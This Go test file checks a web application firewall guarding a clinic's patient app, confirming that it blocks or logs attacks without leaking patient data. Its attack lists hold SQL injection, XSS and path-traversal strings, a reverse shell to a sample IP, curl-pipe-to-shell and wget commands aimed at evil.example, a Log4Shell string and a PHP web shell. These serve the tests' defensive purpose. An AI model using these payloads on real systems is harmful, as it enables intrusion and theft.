package web

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/labstack/echo/v4"

	"countersign/internal/waf"
)

// attacks are typical ones of the four classes, and the hundreds of the core rule set that find each class.
var attacks = []struct {
	class string
	rules []int
	texts []string
}{
	{"SQL injection", []int{942}, []string{
		"1' OR '1'='1", "' OR 1=1 -- -", "1 UNION SELECT username, password FROM users", "-1' UNION ALL SELECT NULL,NULL,version()--",
		"1; DROP TABLE patients; --", "1' AND SLEEP(5)#", "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
		"'; EXEC xp_cmdshell('dir'); --", "1' AND pg_sleep(10)--", "admin'/**/OR/**/1=1#"}},
	{"cross-site scripting", []int{941}, []string{
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>", "javascript:alert(document.domain)//",
		"<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert('x')>", "<a href=\"javascript:fetch('//evil.example')\">x</a>",
		"<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>"}},
	{"path traversal", []int{930}, []string{
		"../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow", "/etc/passwd", "../../../proc/self/environ",
		"..%2f..%2f..%2fetc%2fpasswd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "../../.env"}},
	{"commands and code", []int{932, 933, 934, 944}, []string{
		"; cat /etc/passwd", "| /bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "$(curl http://evil.example/x.sh|sh)", "`wget http://evil.example/x`",
		"() { :; }; /bin/bash -c 'id'", "<?php system($_GET['c']); ?>", "${jndi:ldap://evil.example/a}", "require('child_process').exec('id')",
		"& powershell.exe -enc SQBFAFgA", "java.lang.Runtime.getRuntime().exec('id')"}},
}

// places are where a text may stand of what the filter sees, and a request that carries it there.
var places = map[string]func(v *visitor, text string) *httptest.ResponseRecorder{
	"a query": func(v *visitor, text string) *httptest.ResponseRecorder {
		return v.get("/deliveries?code=" + url.QueryEscape(text))
	},
	"a query of no page": func(v *visitor, text string) *httptest.ResponseRecorder {
		return v.get("/index.php?id=" + url.QueryEscape(text))
	},
	"a field with a code": func(v *visitor, text string) *httptest.ResponseRecorder {
		return v.post("/deliveries/preview", "code", text)
	},
	"a typed number, by a patient": func(v *visitor, text string) *httptest.ResponseRecorder {
		return v.post("/m/"+plantedToken, "lang", "en", "month", text, "day", "2", "year", "1950")
	},
	"a field that is not the form's": func(v *visitor, text string) *httptest.ResponseRecorder {
		return v.post("/patients/search", "term", "Ada", "colour", text)
	},
}

var plantedToken = strings.Repeat("Planted_-", 5)[:43]

// Each attack is stopped, with our page, where it blocks; passes and is told of by the numbers of rules where it detects; and
// is not noticed where it is off. Detecting finds what blocking stops.
func TestAttacks(t *testing.T) {
	t.Parallel()
	block, detect, off := behind(t, blocking), behind(t, detecting), behind(t, nil)
	in := map[*site]*visitor{}
	for _, s := range []*site{block, detect, off} {
		in[s] = s.as(t, s.world.Doctor)
	}
	var classes []int // of what was sent, as an index of attacks
	for class, attack := range attacks {
		for _, text := range attack.texts {
			for place, send := range places {
				classes = append(classes, class)
				at := attack.class + " in " + place + ": " + text
				got := send(in[block], text)
				if !stopped(got) || got.Header().Get("Content-Security-Policy") == "" || !strings.Contains(got.Body.String(), "<html") {
					t.Errorf("%s: not stopped (%d)", at, got.Code)
				}
				detected, untouched := send(in[detect], text), send(in[off], text)
				if stopped(detected) || detected.Code != untouched.Code {
					t.Errorf("%s: %d where it is only told of, %d without a filter", at, detected.Code, untouched.Code)
				}
			}
		}
	}
	stops, tells := block.found(t), detect.found(t)
	if len(stops) != len(classes) || len(tells) != len(classes) {
		t.Fatalf("%d attacks, %d found where they are stopped and %d where they are told of", len(classes), len(stops), len(tells))
	}
	for i, class := range classes {
		a, b := stops[i], tells[i]
		if !slices.Equal(a.Rules, b.Rules) || a.Route != b.Route || !a.Refused || b.Refused {
			t.Errorf("%s: stopping says %v, telling %v", attacks[class].class, a, b)
		}
		if !slices.ContainsFunc(a.Rules, func(id int) bool { return slices.Contains(attacks[class].rules, id/1000) }) {
			t.Errorf("%s on %s: found by %v, none of them for that class", attacks[class].class, a.Route, a.Rules)
		}
	}
	if lines := off.found(t); len(lines) > 0 {
		t.Error("without a filter:", lines)
	}
}

// What stands in headers and in the path itself.
func TestAttacksInHeadersAndPaths(t *testing.T) {
	t.Parallel()
	block, detect, off := behind(t, blocking), behind(t, detecting), behind(t, nil)
	ask := func(s *site, path, header, value string) *httptest.ResponseRecorder {
		r := httptest.NewRequest(get, path, nil)
		r.Header.Set("User-Agent", "Mozilla/5.0")
		if header != "" {
			r.Header.Set(header, value)
		}
		return s.visitor(t).do(r)
	}
	for _, one := range []struct {
		path, header, value string
		rule                int
	}{
		{"/sign-in", "User-Agent", "() { :;}; echo vulnerable", 932170},
		{"/sign-in", "User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)", 913100},
		{"/sign-in", "Referer", "http://x.example/?q=1' UNION SELECT password FROM users--", 942100},
		{"/sign-in", "X-Api-Version", "${jndi:ldap://evil.example/a}", 944150},
		{"/sign-in", "Cookie", "theme=<script>alert(1)</script>", 941100},
		{"/sign-in", "Cookie", "lang=../../../../etc/passwd", 930120},
		{"/static/../../../../etc/passwd", "", "", 930110},
		{"/static/..%2f..%2f..%2fetc%2fpasswd", "", "", 930100},
		{"/m/..%2f..%2f..%2fetc%2fpasswd", "", "", 930100},
		{"/.env", "", "", 930130},
		{"/.git/config", "", "", 930130},
		{"/m/" + plantedToken + "?next=../../etc/passwd", "", "", 930110},
	} {
		at := one.path + " " + one.header + " " + one.value
		if got := ask(block, one.path, one.header, one.value); !stopped(got) {
			t.Errorf("%s: not stopped (%d)", at, got.Code)
		}
		detected, untouched := ask(detect, one.path, one.header, one.value), ask(off, one.path, one.header, one.value)
		if detected.Code != untouched.Code {
			t.Errorf("%s: %d where it is only told of, %d without a filter", at, detected.Code, untouched.Code)
		}
		for _, s := range []*site{block, detect} {
			lines := s.found(t)
			if len(lines) == 0 || !slices.Contains(lines[len(lines)-1].Rules, one.rule) {
				t.Errorf("%s: %v, want rule %d among them", at, lines, one.rule)
			}
		}
	}
	htmx := block.visitor(t).htmx("main")
	if got := htmx.get("/sign-in?q=<script>alert(1)</script>"); !stopped(got) || strings.Contains(got.Body.String(), "<html") {
		t.Errorf("htmx is answered by %d %s", got.Code, got.Body)
	}
	if got := block.visitor(t).get("/m/" + plantedToken + "?q=<script>alert(1)</script>"); !strings.Contains(got.Body.String(), "llame a la clínica") {
		t.Errorf("a patient is answered by %s", got.Body)
	}
}

// Those whom a stop would hurt a patient, and secrets: the filter does not see them. What is beside a secret it does.
func TestWhomTheFilterLeavesAlone(t *testing.T) {
	t.Parallel()
	s := behind(t, blocking)
	v := s.visitor(t)
	attack := "<script>alert(1)</script>' OR 1=1 --"
	for path, body := range map[string]string{"/webhooks/sendgrid": `[{"reason":"` + attack + `"}]`, "/webhooks/twilio": "Body=" + url.QueryEscape(attack),
		"/m/" + plantedToken + "/stop?x=" + url.QueryEscape(attack): "List-Unsubscribe=One-Click"} {
		r := httptest.NewRequest(post, path, strings.NewReader(body))
		r.Header.Set("Content-Type", urlEncoded)
		if got := v.do(r); stopped(got) {
			t.Errorf("%s: stopped", path)
		}
	}
	report := httptest.NewRequest(post, pathReport, strings.NewReader(`{"csp-report":{"blocked-uri":"inline","script-sample":"`+attack+`"}}`))
	report.Header.Set("Content-Type", "application/csp-report")
	if got := v.do(report); stopped(got) {
		t.Error("a browser's report of an attack is taken for one")
	}
	for _, name := range ownCookies {
		r := httptest.NewRequest(get, "/sign-in", nil)
		r.Header.Set("Cookie", name+"="+attack)
		if got := v.do(r); stopped(got) {
			t.Errorf("%s was looked at", name)
		}
		r = httptest.NewRequest(get, "/sign-in", nil)
		r.Header.Set("Cookie", name+"=x; other="+attack)
		if got := v.do(r); !stopped(got) {
			t.Errorf("a cookie beside %s was not looked at", name)
		}
	}
	for _, name := range []string{"Authorization", "Cf-Access-Jwt-Assertion"} {
		r := httptest.NewRequest(get, "/sign-in", nil)
		r.Header.Set(name, "${jndi:ldap://evil.example/a}")
		if got := v.do(r); stopped(got) {
			t.Errorf("%s was looked at", name)
		}
	}
	for path, want := range map[string]string{"/m/" + plantedToken + "/read?a=1": "/m/token/read?a=1", "/m/..%2fetc?a=1": "/m/..%2fetc?a=1"} {
		c := s.echo.NewContext(httptest.NewRequest(get, path, nil), httptest.NewRecorder())
		s.echo.Router().Find(get, echo.GetPath(c.Request()), c)
		if got := uriToLookAt(c); got != want {
			t.Errorf("of %s the filter sees %s", path, got)
		}
	}
	if lines := s.found(t); len(lines) != len(ownCookies) {
		t.Error(lines)
	}
}

// swallowed is a body that says how much of it was read.
type swallowed struct{ read int }

func (s *swallowed) Read(p []byte) (int, error) {
	s.read += len(p)
	return len(p), nil
}

// Bodies are read as far as a form may go, and no further; what is no form is answered as without a filter.
func TestFilterKeepsTheLimitsOfBodies(t *testing.T) {
	t.Parallel()
	block, off := behind(t, blocking), behind(t, nil)
	for _, one := range []struct {
		kind, body string
		want       int
	}{
		{urlEncoded, "term=" + strings.Repeat("x", formBytes), http.StatusRequestEntityTooLarge},
		{urlEncoded, "term=%zz", http.StatusBadRequest},
		{"application/json", `{"term":"Ada"}`, http.StatusUnsupportedMediaType},
	} {
		for _, s := range []*site{block, off} {
			r := httptest.NewRequest(post, "/patients/search", strings.NewReader(one.body))
			r.Header.Set("Content-Type", one.kind)
			r.Header.Set("Sec-Fetch-Site", "same-origin")
			if got := s.as(t, s.world.Doctor).do(r); got.Code != one.want {
				t.Errorf("%s %.20s: %d, want %d", one.kind, one.body, got.Code, one.want)
			}
		}
	}
	endless := &swallowed{}
	r := httptest.NewRequest(post, "/patients/search", io.LimitReader(endless, 8<<20))
	r.Header.Set("Content-Type", urlEncoded)
	if got := block.visitor(t).do(r); got.Code != http.StatusRequestEntityTooLarge || endless.read > 2*formBytes {
		t.Errorf("%d after %d bytes", got.Code, endless.read)
	}
}

// The rules take long for what is made to be hard. Of a form they see a part, and what matters is in it; of what is long otherwise
// an address may send little.
func TestFilterIsNotMadeToWork(t *testing.T) {
	t.Parallel()
	s := behind(t, blocking)
	v := s.as(t, s.world.Doctor)
	id := s.world.Patient.String()
	preview := forms()["/deliveries/preview"]
	sent := url.Values{"code": {"' OR 1=1 --"}, "aaa": {strings.Repeat("(", 60<<10)}, "text": {"free"}}
	for range 500 {
		sent.Add("pick", id)
		sent.Add("all", "1")
	}
	seen := preview.toLookAt(sent)
	if n := (waf.Request{Form: seen}).Weight(); n > 4<<10 || seen.Get("code") == "" || seen.Has("pick") || len(seen.Get("aaa")) == 0 || !seen.Has("all") {
		t.Errorf("%d bytes are looked at: %.200v", n, seen)
	}
	sent["pick"][499] = "1 OR 1=1"
	if seen := preview.toLookAt(sent); seen.Get("pick") != "1 OR 1=1" {
		t.Errorf("an id that is none is not looked at: %v", seen["pick"])
	}
	crowded := url.Values{"code": {"' OR 1=1 --"}, "pick": slices.Repeat([]string{"no id"}, 1000)}
	if seen := preview.toLookAt(crowded); seen.Get("code") == "" || !seen.Has("pick") {
		t.Error("a list that goes on and on keeps a field from being looked at")
	}
	long := "/deliveries?code=" + strings.Repeat("7", lookLight)
	for range s.rules.heavy.Most {
		if got := v.get(long); stopped(got) || got.Code == http.StatusTooManyRequests {
			t.Fatal(got.Code)
		}
	}
	if got := v.get(long); got.Code != http.StatusTooManyRequests || got.Header().Get("Retry-After") == "" {
		t.Errorf("one too many is answered by %d", got.Code)
	}
	v.wants(v.get("/deliveries"), http.StatusOK)
}

// Of what the filter saw nothing is kept but numbers and routes: not what was attacked with, not what stood beside it, not
// the path. It writes nothing by itself either: the log is all that is written.
func TestFilterTellsNothingOfPatients(t *testing.T) {
	t.Parallel()
	const planted = "Zebulon Quillfeather has a planted anaemia"
	for name, filter := range map[string]func() (*waf.Filter, error){"block": blocking, "detect": detecting} {
		s := behind(t, filter)
		id := s.world.Submitted(t, s.world.Patient, "email").String()
		v := s.as(t, s.world.Doctor)
		attack := planted + "<script>alert('" + planted + "')</script> ../../etc/passwd"
		v.get("/patients/" + id + "?" + url.Values{"q": {attack}}.Encode())
		v.get("/nowhere/" + url.PathEscape(attack))
		v.post("/drafts/"+id+"/edit", "version", attack, "text", attack)
		v.post("/patients/search", "term", planted, "colour", attack, attack, "x")
		v.get("/m/" + plantedToken + "?q=" + url.QueryEscape(attack))
		v.header.Set("Referer", "http://localhost:8080/"+attack)
		v.get("/deliveries")
		lines, log := s.found(t), s.log.String()
		if len(lines) != 6 {
			t.Errorf("%s: %d found, want 6: %v", name, len(lines), lines)
		}
		for _, secret := range []string{"Zebulon", "Quillfeather", "anaemia", "alert(", "passwd", plantedToken, id, "nowhere"} {
			if strings.Contains(log, secret) {
				t.Errorf("%s: %q is in the log", name, secret)
			}
		}
		for _, route := range []string{"/patients/:id", "/drafts/:id/edit", "/patients/search", "/m/:token", "/deliveries"} {
			if !slices.ContainsFunc(lines, func(l filterLine) bool { return l.Route == route && len(l.Rules) > 0 }) {
				t.Errorf("%s: nothing is told of %s", name, route)
			}
		}
	}
}
